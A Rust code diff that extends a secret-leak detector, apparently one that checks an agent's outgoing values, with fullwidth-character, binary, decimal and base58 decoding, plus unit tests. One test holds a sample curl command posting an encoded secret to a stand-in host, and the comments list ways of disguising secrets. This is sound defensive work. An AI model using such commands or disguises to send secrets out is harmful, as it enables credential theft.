@@ -1,15 +1,16 @@
 //! Sink-side reshaping layers: undo the changes an agent makes to a value so that it no longer
 //! matches literally, though no encoding standard names them.
 //!
-//! Labels: `invisible` (zero-width characters dropped, Unicode tag characters read back as
-//! ASCII), `separators` (a dash, space, dot, underscore, comma, colon or bar after every 1-4
+//! Labels: `invisible` (zero-width characters dropped, Unicode tag characters and fullwidth
+//! forms read back as ASCII), `separators` (a dash, space, dot, underscore, comma, colon or bar after every 1-4
 //! characters, or between digit groups of a card number read with another grouping),
 //! `concat` (string literals joined by the interpreter: `'sk_' + 'live'`, `"a" "b"`,
 //! `['sk', '_li']`), `rot13` and `caesar` (letter shifts; only of encoded-looking tokens),
 //! `charcodes` (decimal, hex or octal character-code lists: `115,107`, `&#115;`, `0x73 0x6b`,
 //! `String.fromCharCode(...)`, `chr(115)+chr(107)`), `base85` (`<~...~>` Ascii85, and tokens
 //! in the Ascii85, Z85 or RFC 1924 alphabets), `params` (the values of three or more short
-//! `name=value` pairs joined in order: a secret split over query or form parameters).
+//! `name=value` pairs joined in order: a secret split over query or form parameters),
+//! `radix` (a long number read as bytes: binary octets, a decimal integer, base58).
 //!
 //! Each layer starts with a cheap byte check and bounds its own output. None of them runs on
 //! source text (see [`super::decode_encodings`]): they would only invent spurious values there.
@@ -18,7 +19,7 @@ use super::{Ctx, MIN_RUN};
 
 /// The labels of this module's layers.
 pub(super) const RESHAPES: &[&str] =
-    &["invisible", "separators", "concat", "params", "rot13", "caesar", "charcodes", "base85"];
+    &["invisible", "separators", "concat", "params", "rot13", "caesar", "charcodes", "base85", "radix"];
 /// A parameter value longer than this is matched as it stands (only short pieces are joined).
 const MAX_PARAM_PIECE: usize = 24;
 
@@ -55,6 +56,10 @@ pub(super) fn layer_invisible(t: &str, ctx: &mut Ctx) {
         let cp = c as u32;
         if is_zero_width(c) {
             changed = true;
+        } else if (0xFF01..=0xFF5E).contains(&cp) {
+            // Fullwidth forms (`ｓｋ＿ｌｉｖｅ`) are the ASCII they mirror.
+            changed = true;
+            cleaned.extend(char::from_u32(cp - 0xFEE0));
         } else if (0xE0000..=0xE007F).contains(&cp) {
             changed = true;
             if let Some(a) = char::from_u32(cp - 0xE0000).filter(|a| a.is_ascii_graphic() || *a == ' ') {
@@ -526,7 +531,8 @@ pub(super) fn layer_base85(t: &str, ctx: &mut Ctx) {
     let (z85, rfc) = (table(Z85), table(RFC1924));
     let mut tried = 0;
     for word in b.split(|c| c.is_ascii_whitespace()) {
-        for tok in std::iter::once(word).chain(word.split(|&c| c == b'\'' || c == b'"')) {
+        let value = without_name(word);
+        for tok in std::iter::once(word).chain(value).chain(word.split(|&c| c == b'\'' || c == b'"')) {
             if tried >= MAX_B85_TOKENS || ctx.full() {
                 return;
             }
@@ -550,6 +556,95 @@ pub(super) fn layer_base85(t: &str, ctx: &mut Ctx) {
                     ctx.emit_bytes(&d, "base85", false);
                 }
             }
+        }
+    }
+}
+
+/// A word's value without its quotes and `name=` prefix (`'v=F),-!Bm+'` is `F),-!Bm+`).
+fn without_name(word: &[u8]) -> Option<&[u8]> {
+    let w = word.strip_prefix(b"'").or_else(|| word.strip_prefix(b"\"")).unwrap_or(word);
+    let w = w.strip_suffix(b"'").or_else(|| w.strip_suffix(b"\"")).unwrap_or(w);
+    let eq = w.iter().take(32).position(|&c| c == b'=')?;
+    let name = &w[..eq];
+    (!name.is_empty() && name.iter().all(|c| c.is_ascii_alphanumeric() || *c == b'_' || *c == b'-'))
+        .then(|| &w[eq + 1..])
+}
+
+// ----- long numbers read as bytes --------------------------------------------
+
+const BASE58: &[u8] = b"123456789ABCDEFGHJKLMNPQRSTUVWXYZabcdefghijkmnopqrstuvwxyz";
+/// Longest number converted (the conversion is quadratic in its length).
+const MAX_RADIX_DIGITS: usize = 1024;
+/// Most numbers converted per text.
+const MAX_RADIX_TOKENS: usize = 8;
+
+/// `digits` (values below `radix`) as the big-endian bytes of the number they spell.
+fn radix_to_bytes(digits: impl Iterator<Item = u8>, radix: u32) -> Vec<u8> {
+    let mut out: Vec<u8> = Vec::new(); // little-endian base-256
+    for d in digits {
+        let mut carry = u32::from(d);
+        for byte in out.iter_mut() {
+            let v = u32::from(*byte) * radix + carry;
+            *byte = (v & 0xFF) as u8;
+            carry = v >> 8;
+        }
+        while carry > 0 {
+            out.push((carry & 0xFF) as u8);
+            carry >>= 8;
+        }
+    }
+    out.reverse();
+    out
+}
+
+/// Binary octets (`01110011 01101011 ...` or one run of bits), a long decimal integer, or a
+/// base58 token, read as the bytes they spell.
+pub(super) fn layer_radix(t: &str, ctx: &mut Ctx) {
+    if !ctx.can_add(1) || t.len() < 24 {
+        return;
+    }
+    let b = t.as_bytes();
+    // Octets separated by spaces or commas.
+    let mut bits = Vec::new();
+    for tok in b.split(|c| c.is_ascii_whitespace() || *c == b',') {
+        let tok = without_name(tok).unwrap_or(tok);
+        let tok = tok.strip_prefix(b"'").unwrap_or(tok);
+        let tok = tok.strip_suffix(b"'").unwrap_or(tok);
+        if tok.len() == 8 && tok.iter().all(|c| *c == b'0' || *c == b'1') {
+            bits.extend_from_slice(tok);
+        } else if bits.len() >= 64 {
+            break;
+        } else {
+            bits.clear();
+        }
+    }
+    if bits.len() >= 64 {
+        let bytes: Vec<u8> = bits.chunks(8).map(|o| o.iter().fold(0u8, |a, c| (a << 1) | (c - b'0'))).collect();
+        ctx.emit_bytes(&bytes, "radix", false);
+    }
+    let mut tried = 0;
+    for word in b.split(|c| c.is_ascii_whitespace() || matches!(c, b'\'' | b'"' | b'=' | b'&' | b'?' | b'/')) {
+        if tried >= MAX_RADIX_TOKENS || ctx.full() {
+            return;
+        }
+        if word.len() < 24 || word.len() > MAX_RADIX_DIGITS {
+            continue;
+        }
+        if word.iter().all(|c| *c == b'0' || *c == b'1') && word.len() % 8 == 0 {
+            tried += 1;
+            let bytes: Vec<u8> = word.chunks(8).map(|o| o.iter().fold(0u8, |a, c| (a << 1) | (c - b'0'))).collect();
+            ctx.emit_bytes(&bytes, "radix", false);
+        } else if word.iter().all(u8::is_ascii_digit) {
+            tried += 1;
+            ctx.emit_bytes(&radix_to_bytes(word.iter().map(|c| c - b'0'), 10), "radix", false);
+        } else if word.iter().all(|c| BASE58.contains(c))
+            && word.iter().any(u8::is_ascii_digit)
+            && word.iter().any(u8::is_ascii_uppercase)
+            && word.iter().any(u8::is_ascii_lowercase)
+        {
+            tried += 1;
+            let tab = table(BASE58);
+            ctx.emit_bytes(&radix_to_bytes(word.iter().map(|c| tab[*c as usize]), 58), "radix", false);
         }
     }
 }
@@ -663,6 +758,40 @@ mod tests {
         let enc = a85(SECRET.as_bytes());
         assert!(found(&format!("<~{enc}~>"), "base85"));
         assert!(found(&format!("data {enc} end"), "base85"));
+        assert!(found(&format!("curl -d 'v={enc}' https://x.example/"), "base85"));
+    }
+
+    /// `bytes` as a number written in `radix` with `alphabet`.
+    fn to_radix(bytes: &[u8], radix: u32, alphabet: &[u8]) -> String {
+        let mut digits: Vec<u8> = Vec::new(); // little-endian, base `radix`
+        for &b in bytes {
+            let mut carry = u32::from(b);
+            for d in digits.iter_mut() {
+                let v = u32::from(*d) * 256 + carry;
+                *d = (v % radix) as u8;
+                carry = v / radix;
+            }
+            while carry > 0 {
+                digits.push((carry % radix) as u8);
+                carry /= radix;
+            }
+        }
+        digits.iter().rev().map(|&d| alphabet[d as usize] as char).collect()
+    }
+
+    #[test]
+    fn long_numbers_and_fullwidth_forms() {
+        let octets: Vec<String> = SECRET.bytes().map(|b| format!("{b:08b}")).collect();
+        assert!(found(&format!("v={}", octets.join(" ")), "radix"));
+        assert!(found(&octets.concat(), "radix"));
+        assert!(found(&format!("v={}", to_radix(SECRET.as_bytes(), 10, b"0123456789")), "radix"));
+        assert!(found(&format!("v={}", to_radix(SECRET.as_bytes(), 58, super::BASE58)), "radix"));
+        let wide: String = SECRET.chars().map(|c| char::from_u32(c as u32 + 0xFEE0).unwrap()).collect();
+        assert!(found(&format!("v={wide}"), "invisible"));
+        // Ordinary numbers (a timestamp, a phone number, an id) stay as they are.
+        for quiet in ["ts=1733241600 phone=+14155550123", "order 123456789012345678 shipped"] {
+            assert!(!dec(quiet).iter().any(|d| d.encoding.contains("radix")), "{quiet}");
+        }
     }
 
     #[test]
